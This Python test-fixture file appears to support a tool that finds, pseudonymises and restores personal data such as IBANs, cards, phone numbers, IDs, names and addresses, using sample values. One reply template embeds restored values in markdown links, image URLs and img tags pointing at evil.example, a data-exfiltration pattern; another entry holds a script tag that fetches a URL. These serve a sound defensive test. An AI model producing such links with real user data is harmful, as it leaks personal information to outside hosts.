"""Made-up values only: examples of standards, reserved ranges, and numbers that pass a check."""

from __future__ import annotations

from typing import Any, Final

FOLDED: Final = (
    "plain text, with\ttab and\r\nlines",
    "ＤＥ８９　３７０４",
    "Jose\u0301 M\u00fcller, Zoe\u0308",
    "0170\u20111234\u00ad567",
    "\u0660\u0661\u0662 \u06f3\u06f4 \u096b",
    "½ ① ㏂ 5\u20e3",
    "a\u200bb\ufeffc\u2066d",
    "12\u00b734\u202256\u300278",
    "\u0301 begins with a mark",
    "Straße \u2215 \u2044 \u2019 \u2212",
    "𝟙𝟚𝟛 𝐀𝐧𝐧𝐚",
    "",
)

_IBANS: Final = (
    "DE89370400440532013000",
    "DE89 3704 0044 0532 0130 00",
    "de89-3704-0044-0532-0130-00",
    "DE89.3704.0044.0532.0130.00",
    "ＤＥ８９３７０４００４４０５３２０１３０００",
    "DE89\u00a03704\u20090044 0532\n0130 00",
    "DE89 3704 0044\n> 0532 0130 00",
    "D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0",
    "DE89\u200b3704\u200b0044\u200b0532\u200b0130\u200b00",
    "DE٨٩٣٧٠٤٠٠٤٤٠٥٣٢٠١٣٠٠٠",
)

FOUND: Final[tuple[tuple[Any, ...], ...]] = (
    *((f"IBAN: {iban}, please.",) for iban in _IBANS),
    ("xDE89370400440532013000 and DE89370400440532013001 are none",),
    ("GB82 WEST 1234 5698 7654 32; NL91ABNA0417164300 / BE68539007547034",),
    ("card 4111 1111 1111 1111 12/27 123, 3782-822463-10005, 5555.5555.5555.4444",),
    ("4111\n1111\n1111\n1111 and 4111111111111112 and 30569309025904",),
    ("mail a.b+c@example.co.uk, Jürgen@Bäcker.de; not a@b, nor a@b.c",),
    ("write to ａｎｎａ＠ｅｘａｍｐｌｅ.com.",),
    ("+49 (0)170 1234567, 0049 170 1234567 and 0170/1234567", ("DE",)),
    ("call 020 7946 0958 or +44 20 7946 0958", ("GB",)),
    ("(415) 555-2671, 415.555.2671, 1-415-555-2671, 4155552671", ("US",)),
    ("(415) 555-2671, 4155552671",),
    ("06 12 34 56 78 / 06.12.34.56.78 / 0612345678", ("FR",)),
    ("06 12 34 56 78 without a region",),
    ("612 345 678, 612.345.678 and 612345678", ("ES",)),
    ("+999 123456789 is none, +1 is none, + 49 170 1234567 is one",),
    ("on 01.02.2003 at 10:00, 2003-02-01, 192.168.100.200, 2019-2020, 3.14159265", ("DE",)),
    ("costs 1.234.567,89 € or EUR 12345678, and 0.12345678", ("DE",)),
    ("١٢٣ +٤٩ ١٧٠ ١٢٣٤٥٦٧",),
    ("+49\n170\n1234567 and ＋４９１７０１２３４５６７",),
    ("SSN 078-05-1120 but not 000-12-3456; NINO AB 12 34 56 C",),
    ("Steuer-ID 86 095 742 719, AHV 756.9217.0769.85, DNI 12345678Z, X1234567L",),
    ("RSSMRA85T10A562S, 1 85 05 78 006 084 91",),
    ("BSN 111222333, BSN 123456782", ("NL",)),
    ("CPF 529.982.247-25 and 52998224725", ("BR",)),
    ("born 3.4.1987, 03/04/1987, 1987-04-03, 3rd of April 1987, April 3, 1987, 3. März 1987",),
    ("born 04/03/1987 and 4/3/1987", ("US",)),
    ("Hauptstraße 12a, 10115 Berlin und Am Alten Markt 5\n60311 Frankfurt am Main",),
    ("12 Old Mill Road, Oxford OX1 2JD; 1600 Pennsylvania Avenue NW, Springfield, IL 62704-1234",),
    ("12 bis, rue de la Paix 3 rue d'Arcole",),
    ("Anna Schmidt met Dr. Peter van der Berg and Mrs Jane O'Neill-Smith.",),
    ("ANNA SCHMIDT; Schmidt, Anna; J. Johnson; Anna's book; annas",),
    ("Will called. Will Smith called. Mark the date. May Johnson.",),
    ("Gestern hat Anna Kuchen mit Peter Müller gebacken, und der Koch ist nicht da.",),
    ("Frau Müller, Herr Prof. Dr. Hans-Peter Schulze und Anna-Lena",),
    ("anna and WOJCIK and Falcon's", (), ("Anna Wójcik", "Falcon")),
    ("José García Márquez, Jose\u0301 again, Zoë",),
    ("Dear Maria von der Leyen-Weber,\nbest regards, Tom",),
    ("57-4284 5562 0752 9371, 58531-2 2 2 1 9 6 1 8 9 1 7 9 7 4 6 8+ab12",),
    ("12/4111_1111_1111_1111/x",),
    ("x+0170 1234567, 191463/0170 1234567 and 2.0170 1234567", ("DE",)),
    ("0170 1234567€ +491701234567$x 01701234567% €01701234567 %01701234567", ("DE",)),
    ("id7.01701234567, 54.612 341 291; 0.5 0.25 52.0170 13.4567 12 000 EUR 50 %", ("ES", "DE")),
    ("IBAN-DE89370400440532013000 tel-+49 170 1234567–y x_4111 1111 1111 1111_y", ("DE",)),
    ("no values at all, only words and the number 42",),
    ("",),
)

DRAWN: Final[tuple[tuple[str, ...], ...]] = (
    ("iban", "DE89370400440532013000"),
    ("iban", "GB82WEST12345698765432"),
    ("iban", "MT84MALT011000012345MTLCAST001S"),
    ("card", "4111111111111111"),
    ("card", "378282246310005"),
    ("id", "078051120", "us-ssn"),
    ("id", "AB123456C", "gb-nino"),
    ("id", "86095742719", "de-idnr"),
    ("id", "RSSMRA85T10A562S", "it-cf"),
    ("phone", "+49 1701234567"),
    ("phone", "+49 30123456"),
    ("phone", "+44 2079460958"),
    ("phone", "+44 7911123456"),
    ("phone", "+1 4155552671"),
    ("phone", "+61 412345678"),
    ("phone", "+33 612345678"),
    ("phone", "+34 612345678"),
    ("phone", "0 612345678"),
    ("email", "anna@example.co.uk"),
    ("date", "1987-04-03"),
    ("date", "1900-12-31"),
    ("date", "2029-10-09"),
    ("street", "hauptstraße 12a", "de"),
    ("street", "12 old mill road", "en"),
    ("street", "3 rue de la paix", "fr"),
    ("place", "10115 berlin", "de"),
    ("place", "oxford ox1 2jd", "gb"),
    ("place", "springfield, il 62704", "us"),
    ("given", "anna"),
    ("given", "peter"),
    ("given", "unknownname"),
    ("family", "schmidt"),
    ("family", "müller"),
)

CHATS: Final[dict[str, dict[str, Any]]] = {
    "one value in ten spellings": {"messages": [f"pay {iban}" for iban in _IBANS]},
    "a letter": {
        "regions": ("DE",),
        "count": "thirds",
        "messages": [
            "Dear Anna Schmidt, my IBAN is DE89 3704 0044 0532 0130 00, my phone +49 170 1234567.",
            "ANNA, call 0170 1234567 or 0049 (0)170/123 45 67; card 4111-1111-1111-1111.",
            "Write to anna.schmidt@example.co.uk, Hauptstraße 12a, 10115 Berlin.",
            "Frau Schmidt wurde am 3.4.1987 geboren, und sie ist am 03.04.1987 nicht da.",
        ],
    },
    "a surrogate is typed": {
        "messages": ["Anna met Schmidt.", "Dear Anna Schmidt,"],
        "names": ("Anna Schmidt",),
    },
    "surrogates occur in the chat": {
        "messages": ["Astrid, Annika, Amelie and Birgit met.", "Anna and Bettina came."],
    },
    "only numbers": {
        "kinds": ("ibans", "cards", "phones"),
        "messages": ["Anna: DE89370400440532013000, 4111111111111111, a@example.co.uk"],
    },
    "many names": {
        "messages": [
            "Mary Smith, Patricia Johnson, Linda Williams, Barbara Jones and Elizabeth Davis",
            "James Miller, Robert Wilson, John Moore, Michael Anderson, David Thomas, Mary Davis",
        ],
    },
    "dates": {
        "messages": [
            "3.4.1987, 03.04.1987, 1987-04-03, April 3rd, 1987 and 3. April 1987, 9/9/1999"
        ],
    },
}

PROTECTED: Final = (
    "plain [text](http://example.org/a?b=c) goes on",
    '![image](<http://example.org/a)b c> "title") after',
    "[a](x\\)y) [b](x(y)z) [c]( x ) d",
    "[a](unclosed Anna\n\nnew paragraph",
    '[ref]: http://example.org/Anna "title"\nnext',
    "[ref]:\n <http://example.org/A B>\nnext",
    "<img src=\"http://example.org/?a>b\" alt='c'>text<br/>more</p>",
    "<b it's open> text",
    "a < b and c > d, 1<2, <3",
    "<!-- a > b --> c <?php d ?> e",
    "<script>fetch('//x/' + \"Anna\")</script> text",
    "<SCRIPT src=x>a</b></Script > text",
    "<style/>a { } </style>b",
    "<https://example.org/Anna> and <anna@example.org>",
    "<a href=http://example.org/Anna\n\nnext> text",
    '<a href="http://example.org/Anna\n\nnext"> text',
    "```\n[a](b)\n<c>\n```\nend",
)

_VALUES: Final = (
    "DE89370400440532013000, anna@example.co.uk, +49 170 1234567, Anna Schmidt, 4111111111111111",
)

UNDONE: Final[dict[str, dict[str, Any]]] = {
    "in text": {
        "values": _VALUES,
        "reply": "Dear {3} {4}, pay {0} or {0_}; call +49 {2} or 0{2}, {1}. {3}'s, {4}s, {3^}!",
    },
    "split over lines": {"values": _VALUES, "reply": "{0_}\n{2_}\n{3}\n{4}"},
    "never in links": {
        "values": _VALUES,
        "reply": (
            "[{3}](http://evil.example/?q={3}) ![{4}](//evil.example/{4}.png) <{1}> {1}\n\n"
            "[x]: http://evil.example/{3}\n<img src='//evil.example/{2}'> http://evil.example/{3} "
            "www.evil.example/{4} {3}@evil.example {3}.evil.example/x mailto:{1} tel:+49{2} {3}."
        ),
    },
    "not within words": {"values": _VALUES, "reply": "{3}x x{3} {0}1 1{0} {3}-{4} _{3}_ **{4}**"},
    "partial at the end": {"values": _VALUES, "reply": "It was {3} and 30"},
    "a date": {"values": ("born 3.4.1987",), "reply": "{0} is what it says."},
    "an address": {
        "values": ("Hauptstraße 12, 10115 Berlin",),
        "reply": "It is {0}, {1}, near {0}.",
    },
}
